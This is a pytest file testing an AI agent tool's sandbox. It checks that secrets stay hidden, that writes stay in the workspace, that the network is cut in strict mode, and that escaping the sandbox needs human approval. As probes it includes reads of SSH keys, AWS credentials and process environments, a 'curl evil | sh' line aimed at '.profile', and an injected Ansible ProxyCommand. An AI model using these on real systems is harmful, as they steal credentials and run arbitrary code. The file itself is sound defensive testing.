"""The sandbox under the floor: what a command can touch is held by the operating system.

Every command here is harmless (it writes into temporary directories): the point is what the
sandbox lets through and what it refuses, never to try anything destructive on this machine.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import socket
import subprocess
import sys
import tempfile
from dataclasses import replace
from pathlib import Path

import pytest
from agent_helpers import Recorder, make_runner, running
from fake_anthropic import text_reply, tool_reply

from cmdop_tui.agent.approval import Approval, ToolCall
from cmdop_tui.agent.events import ToolEnd
from cmdop_tui.config.settings import AgentProfile, SandboxPolicy, Settings, SettingsError
from cmdop_tui.machines.fleet import Fleet
from cmdop_tui.machines.inventory import Inventory
from cmdop_tui.machines.local import LocalMachine
from cmdop_tui.machines.sandbox import Sandbox, bubblewrap, denied_path, landlock_available

needs_bwrap = pytest.mark.skipif(bubblewrap() is None, reason="bubblewrap cannot run here")


@pytest.fixture
def place(tmp_path: Path) -> tuple[Path, Path]:
    """A home with secrets in it, and a working directory under it."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("aws_secret_access_key=AKIA")
    work = home / "work"
    (work / "app").mkdir(parents=True)
    (work / ".env").write_text("TOKEN=from-dotenv")
    (work / "app" / ".env.production").write_text("TOKEN=prod")
    (work / ".env.example").write_text("TOKEN=changeme")
    return home, work


def machine(place: tuple[Path, Path], **policy: object) -> LocalMachine:
    home, work = place
    return LocalMachine(work, sandbox=Sandbox(SandboxPolicy(**policy), bubblewrap(), home=home))  # type: ignore[arg-type]


async def run(target: LocalMachine, command: str, *, sandboxed: bool = True):
    return await target.run_command(
        command,
        cwd=None,
        timeout_ms=20_000,
        progress=lambda text, stream: None,
        output_limit=8_000,
        sandboxed=sandboxed,
    )


# --- the policy, without running anything ---------------------------------------------------


def test_env_files_are_found_at_any_depth_and_examples_stay_visible(place):
    home, work = place
    deep = work / "a" / "b" / "c" / "d" / "e"
    for folder in (deep, work / "node_modules" / "pkg", work / ".venv" / "lib", work / "dist", home / "sibling"):
        folder.mkdir(parents=True)
        (folder / ".env.local").write_text("TOKEN=deep")
    (home / "sibling" / "id_ed25519").write_text("KEY")
    found = Sandbox(SandboxPolicy(), "bwrap", home=home).found(work)
    assert found is not None and not found.unscanned
    names = sorted(str(path.relative_to(home)) for path in found.secrets)
    assert names == [
        "sibling/.env.local",
        "sibling/id_ed25519",
        "work/.env",
        "work/.venv/lib/.env.local",
        "work/a/b/c/d/e/.env.local",
        "work/app/.env.production",
        "work/dist/.env.local",
        "work/node_modules/pkg/.env.local",
    ]


def test_a_denial_names_the_path_outside_the_writable_roots():
    roots = [Path("/srv/work"), Path("/tmp")]
    assert denied_path("touch: cannot touch '/etc/x': Read-only file system", roots) == "/etc/x"
    assert denied_path("mkdir: cannot create directory '/opt/a': Read-only file system", roots) == "/opt/a"
    assert denied_path("bash: /usr/local/bin/tool: Read-only file system", roots) == "/usr/local/bin/tool"
    assert denied_path("cp: cannot create regular file '/srv/work/x': Read-only file system", roots) is None
    assert denied_path("/bin/bash: line 1: .env: Permission denied", roots) is None
    assert denied_path("find: cannot delete \u2018/home/u/x\u2019: Read-only file system", roots) == "/home/u/x"
    assert denied_path("tee: /etc/x: Read-only file system", roots) == "/etc/x"
    assert denied_path("grep: no such pattern", roots) is None


def test_no_writable_root_lies_in_a_protected_folder(tmp_path):
    # An Ansible inventory folder is read, and its scripts run, by the next session: a working
    # directory in it works in the scratch workspace, and a writable root in it is dropped.
    home, inventory = tmp_path / "home", tmp_path / "infra"
    (inventory / "roles").mkdir(parents=True)
    (inventory / "hosts").write_text("[web]\nweb1\n")
    home.mkdir()
    policy = SandboxPolicy(protected=(str(inventory), str(inventory / "hosts")), writable=(str(inventory / "roles"),))
    sandbox = Sandbox(replace(policy, data=str(tmp_path / "data")), "bwrap", home=home)
    for cwd in (inventory, inventory / "roles"):
        assert sandbox.workspace_for(cwd) == tmp_path / "data" / "scratch"
        assert sandbox.why_unsafe(cwd) == f"it is in {inventory}, which commands may not change"
        assert sandbox.writable_roots(cwd) == [tmp_path / "data" / "scratch"]
    beside = tmp_path / "beside"  # beside the inventory: a working directory as any other
    beside.mkdir()
    assert sandbox.workspace_for(beside) == beside and sandbox.why_unsafe(beside) is None


def test_the_label_says_honestly_what_holds_the_commands():
    assert Sandbox(SandboxPolicy(), None).label == "no sandbox"
    assert Sandbox(SandboxPolicy(mode="off"), "/usr/bin/bwrap").label == "sandbox off"
    assert Sandbox(SandboxPolicy(mode="strict"), "/usr/bin/bwrap").label == "sandbox strict"


def test_settings_profiles_and_the_flag_choose_the_sandbox(tmp_path):
    from cmdop_tui.cli import apply_flags, parser
    from cmdop_tui.config.settings import load_settings

    path = tmp_path / "config.toml"
    path.write_text(
        '[sandbox]\nmode = "strict"\nwritable = ["~/projects"]\nnetwork = false\n'
        '[agents.ops]\nsandbox = "workspace"\nsandbox_writable = ["/srv/www"]\n'
    )
    settings = load_settings(path, environ={})
    assert settings.sandbox_policy() == SandboxPolicy("strict", ("~/projects",), False)
    ops = settings.with_agent("ops").sandbox_policy()
    assert (ops.mode, ops.writable) == ("workspace", ("~/projects", "/srv/www"))
    flagged = apply_flags(settings, parser().parse_args(["--sandbox", "off", "--agent", "ops"]))
    assert flagged.sandbox_policy().mode == "off"
    for bad in ('[sandbox]\nmode = "jail"\n', "[sandbox]\nwritable = 3\n", "[sandbox]\nsize = 1\n"):
        path.write_text(bad)
        with pytest.raises(SettingsError, match=r"\[sandbox\]"):
            load_settings(path, environ={})
    with pytest.raises(SettingsError, match="unknown sandbox mode"):
        Settings(agent=AgentProfile(sandbox="jail")).sandbox_policy()


# --- what the operating system holds --------------------------------------------------------


@needs_bwrap
async def test_commands_write_only_in_the_workspace_and_tmp(place, tmp_path):
    _, work = place
    target = machine(place)
    assert (await run(target, "touch made-here && echo ok")).text.endswith("ok")
    assert (work / "made-here").exists()
    outside = Path("/usr/local/cmdop-sandbox-probe")
    refused = await run(target, f"touch {outside}")
    assert refused.is_error and refused.sandbox_denied.needs == f"write {outside}" and not outside.exists()
    assert "needs the user's approval" in refused.text


@needs_bwrap
async def test_secrets_are_hidden_from_commands_and_from_the_file_tools(place):
    home, _ = place
    target = machine(place)
    shown = await run(
        target, f"cat {home}/.ssh/id_ed25519 {home}/.aws/credentials .env app/.env.production; ls -A {home}/.ssh"
    )
    for secret in ("PRIVATE KEY", "aws_secret_access_key", "from-dotenv", "TOKEN=prod"):
        assert secret not in shown.text
    assert "TOKEN=changeme" in (await run(target, "cat .env.example")).text
    key = await target.read_file(f"{home}/.ssh/id_ed25519")  # hidden (or, with the home under /tmp, not there)
    assert key.is_error and "PRIVATE KEY" not in key.text
    assert "hidden by the sandbox" in (await target.read_file(".env")).text
    (home / "work" / "link").symlink_to(home / ".aws" / "credentials")
    assert "hidden by the sandbox" in (await target.read_file("link")).text  # the resolved path counts


@needs_bwrap
async def test_the_apps_credentials_and_process_are_out_of_reach(place, monkeypatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-sandbox-probe-key")
    target = machine(place)
    result = await run(target, f"env; cat /proc/{os.getpid()}/environ; echo pids=$(ls /proc | grep -c '^[0-9]')")
    assert "sk-ant-sandbox-probe-key" not in result.text
    for mode in ("workspace", "strict"):  # a PID namespace of its own in every mode: its processes only
        seen = await run(machine(place, mode=mode), "echo pids=$(ls /proc | grep -c '^[0-9]')")
        assert int(seen.text.rsplit("pids=", 1)[1].split()[0]) < 10


@needs_bwrap
async def test_strict_mode_has_no_network_and_a_private_tmp(place):
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    try:
        probe = f"{sys.executable} -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)'"
        assert "exit code: 0" in (await run(machine(place), probe)).text
        assert "exit code: 0" not in (await run(machine(place, mode="strict"), probe)).text
    finally:
        listener.close()
    strict = machine(place, mode="strict")
    await run(strict, "echo private > /tmp/cmdop-strict-probe")
    assert not Path("/tmp/cmdop-strict-probe").exists()


@needs_bwrap
async def test_off_mode_writes_anywhere_and_the_file_tools_follow_the_policy(place, tmp_path):
    elsewhere = tmp_path / "elsewhere.txt"
    assert not (await machine(place, mode="off").write_file(str(elsewhere), "x")).is_error
    strict = machine(place, mode="strict")
    _, work = place
    outside = Path("/usr/local/cmdop-sandbox-probe.txt")
    refused = await strict.write_file(str(outside), "x")
    assert refused.is_error and refused.sandbox_denied and not outside.exists()
    allowed = await strict.write_file(str(work.parent / "other.txt"), "x", sandboxed=False)
    assert not allowed.is_error and allowed.text.startswith("wrote")
    in_tmp = await strict.write_file(str(tmp_path / "other.txt"), "x")  # the session's own /tmp
    assert not in_tmp.is_error and not (tmp_path / "other.txt").exists()
    assert (await strict.read_file(str(tmp_path / "other.txt"))).text.endswith("x")


# --- escalation: out of the sandbox only with a person's word -------------------------------


@needs_bwrap
@pytest.mark.parametrize("answer", [True, False])
async def test_a_refused_command_runs_outside_only_after_the_user_allows_it(fake_api, place, tmp_path, answer):
    home, work = place
    outside = tmp_path / "outside" / "made"
    outside.parent.mkdir()
    asked: list[ToolCall] = []

    async def approve(call: ToolCall) -> Approval:
        if call.escalation is None:
            return Approval(True)
        asked.append(call)
        return Approval(answer, "" if answer else "no")

    runner = make_runner(fake_api, cwd=work, approve=approve)
    runner.machines = Fleet(
        Inventory.load((), None), sandbox=Sandbox(SandboxPolicy(mode="strict"), bubblewrap(), home=home)
    )
    fake_api.enqueue(tool_reply("execute_command", {"command": f"touch {outside}"}), text_reply("done"))
    events = Recorder()
    await runner.run("make the file", events)
    (call,) = asked
    assert call.escalation is not None and call.escalation.paths == (str(outside),)
    assert call.escalation.action == "reach"  # the host's /tmp is not the session's /tmp
    assert outside.exists() is answer
    (end,) = events.of(ToolEnd)
    assert end.is_error is not answer
    if not answer:
        assert "did not allow it outside the sandbox" in end.output


@needs_bwrap
async def test_yes_does_not_let_a_command_out_of_the_sandbox(fake_api, anthropic_env, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    work = tmp_path / "work"
    work.mkdir()
    fake_api.enqueue(tool_reply("execute_command", {"command": f"touch {outside}/made"}), text_reply("done"))
    env = {**os.environ, **anthropic_env, "CMDOP_TUI_CONFIG": str(tmp_path / "config.toml")}
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "cmdop_tui",
            "-p",
            "make it",
            "--yes",
            "--sandbox",
            "strict",
            "--output-format",
            "stream-json",
        ],
        env=env,
        cwd=work,
        capture_output=True,
        text=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )
    assert done.returncode == 4, done.stderr  # a call needed a person and none could be asked
    assert not (outside / "made").exists()
    assert "only a person can allow it outside the sandbox" in done.stdout


@needs_bwrap
async def test_no_command_outlives_the_app_after_kill_9(fake_api, anthropic_env, tmp_path):
    marker = "3117.5"  # a sleep no one else runs
    command = f"sleep {marker} | cat & (setsid sleep {marker} &) ; sleep {marker} | sleep {marker}"
    fake_api.enqueue(tool_reply("execute_command", {"command": command}), text_reply("never"))
    env = {**os.environ, **anthropic_env, "CMDOP_TUI_CONFIG": str(tmp_path / "config.toml")}
    app = subprocess.Popen(
        [sys.executable, "-m", "cmdop_tui", "-p", "sleep", "--yes", "--output-format", "stream-json"],
        env=env,
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        stdin=subprocess.DEVNULL,
    )
    try:
        assert app.stdout is not None
        for line in app.stdout:  # wait for the command to start, on the app's own word
            if b'"tool_start"' in line:
                break
        await _until(lambda: len(_sleepers(marker)) >= 4)
        app.kill()
        app.wait()
        await _until(lambda: not _sleepers(marker))
    finally:
        app.kill()
        for pid in _sleepers(marker):
            os.kill(pid, 9)


def _sleepers(marker: str) -> list[int]:
    return running("sleep", marker)


async def _until(condition, timeout: float = 15.0) -> None:
    async with asyncio.timeout(timeout):
        while not condition():
            await asyncio.sleep(0.05)


@pytest.mark.skipif(not landlock_available(), reason="this kernel has no Landlock")
async def test_where_bubblewrap_cannot_run_landlock_holds_the_writes(place, tmp_path):
    _, work = place
    target = LocalMachine(work, sandbox=Sandbox(SandboxPolicy(), None, landlock=True))
    assert target.sandbox.label == "sandbox workspace (landlock, writes only)"
    assert (await run(target, "touch here && echo ok")).text.endswith("ok") and (work / "here").exists()
    outside = Path(tempfile.mkdtemp(dir="/var/tmp")) / "made"
    try:
        refused = await run(target, f"touch {outside}")
        assert refused.sandbox_denied.needs == f"write {outside}" and not outside.exists()
        assert not (await run(target, f"touch {outside}", sandboxed=False)).is_error and outside.exists()
    finally:
        shutil.rmtree(outside.parent)


@needs_bwrap
async def test_background_jobs_started_in_the_sandbox_end_with_their_command(place):
    marker = "2917.25"
    result = await run(
        machine(place), f"(sleep {marker} > /dev/null 2>&1 &); sleep {marker} > /dev/null 2>&1 & echo started"
    )
    assert result.text.endswith("started")
    await _until(lambda: not running("sleep", marker))  # its PID namespace ended with it


async def test_background_jobs_of_an_unsandboxed_command_live_on_until_the_session_ends(place):
    from cmdop_tui.support.containment import end_background_jobs

    marker = "2917.26"
    result = await run(machine(place, mode="off"), f"sleep {marker} > /dev/null 2>&1 & echo started")
    assert result.text.endswith("started")
    await _until(lambda: bool(running("sleep", marker)))  # the command is over; its server lives on
    await asyncio.to_thread(end_background_jobs)
    await _until(lambda: not running("sleep", marker))


@needs_bwrap
async def test_grep_does_not_read_the_secrets_in_the_tree_it_searches(place):
    _, work = place
    (work / "app" / "settings.py").write_text("TOKEN = settings.get('TOKEN')\n")
    result = await machine(place).grep("TOKEN", path=".")
    assert "settings.py" in result.text
    assert "from-dotenv" not in result.text and "TOKEN=prod" not in result.text


@needs_bwrap
async def test_a_link_to_the_hosts_tmp_reads_what_a_command_would_see_there(place, tmp_path):
    """The host's /tmp is not the session's: a file tool following a link into it finds nothing
    of the host's there, as a command would not."""
    _, work = place
    host_file = Path(tempfile.mkdtemp(dir="/tmp")) / "the-users-file"
    host_file.write_text("HOST-TMP-CONTENT")
    try:
        (work / "to-host-tmp").symlink_to(host_file)
        target = machine(place)
        read = await target.read_file("to-host-tmp")
        assert read.is_error and "HOST-TMP-CONTENT" not in read.text
        shown = await run(target, "cat to-host-tmp")
        assert "HOST-TMP-CONTENT" not in shown.text
    finally:
        shutil.rmtree(host_file.parent)


@needs_bwrap
@pytest.mark.parametrize("where", ["home", "root"])
async def test_a_home_or_root_working_directory_is_never_made_writable_whole(place, tmp_path, where):
    home, _ = place
    cwd = home if where == "home" else Path("/")
    data = tmp_path / "data"
    target = LocalMachine(cwd, sandbox=Sandbox(SandboxPolicy(data=str(data)), bubblewrap(), home=home))
    assert target.workspace == data / "scratch" and "read-only" in target.sandbox.describe(cwd)
    done = await run(target, f"touch made-in-scratch; echo x >> {home}/.bashrc; pwd")
    assert (data / "scratch" / "made-in-scratch").exists() and not (home / ".bashrc").exists()
    assert f"stdout:\n{data / 'scratch'}\n" in done.text  # commands start in the scratch workspace
    refused = await target.write_file(str(home / ".profile"), "curl evil | sh\n")
    assert refused.is_error and not (home / ".profile").exists()
    assert not (await target.write_file("notes.txt", "ok")).is_error and (data / "scratch" / "notes.txt").exists()


QUARANTINE_UNWRITABLE = """
import os, sys
from pathlib import Path
from cmdop_tui.machines.local import LocalMachine
from cmdop_tui.machines.sandbox import Sandbox, SandboxPolicy
work = Path(sys.argv[1])
planted = work / "host_vars"
(planted / "deep").mkdir(parents=True)
(planted / "lab.yml").write_text("ansible_ssh_common_args: -o ProxyCommand=touch /tmp/x\\n")
os.chmod(planted / "deep", 0)
os.chmod(planted, 0o555)
LocalMachine(work, sandbox=Sandbox(SandboxPolicy(data=sys.argv[2])))._quarantine([planted])
print("left" if os.path.lexists(planted) else "gone")
"""


def test_a_planted_folder_made_unwritable_is_still_moved_to_quarantine(tmp_path):
    # A folder without write permission cannot be renamed into another folder (its '..' would
    # change), nor emptied: a command that plants host_vars/ and chmods it must still lose it.
    # As root, the check runs without capabilities, where permissions hold as for anyone.
    work, data = tmp_path / "work", tmp_path / "data"
    work.mkdir()
    drop = ["setpriv", "--bounding-set=-all", "--inh-caps=-all"] if os.getuid() == 0 else []
    if drop and shutil.which("setpriv") is None:
        pytest.skip("root without setpriv: permissions do not hold here")
    done = subprocess.run(
        [*drop, sys.executable, "-c", QUARANTINE_UNWRITABLE, str(work), str(data)], capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "gone"
    kept = next((data / "quarantine").iterdir()) / "host_vars"
    assert (kept / "lab.yml").read_text().startswith("ansible_ssh_common_args")
